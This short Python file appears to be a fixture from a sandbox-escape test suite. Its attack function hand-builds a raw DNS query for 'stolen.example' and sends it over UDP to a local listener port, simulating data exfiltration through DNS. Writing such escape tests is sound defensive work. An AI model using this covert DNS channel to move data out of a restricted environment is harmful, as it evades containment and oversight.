"""A question in DNS's own format, to a server of its choice."""

from __future__ import annotations

from tests.escape.witnesses.listeners import UdpListener

WITNESS = UdpListener


def attack(port: int) -> None:
    import socket

    question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06stolen\x07example\0\0\x01\0\x01"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", port))
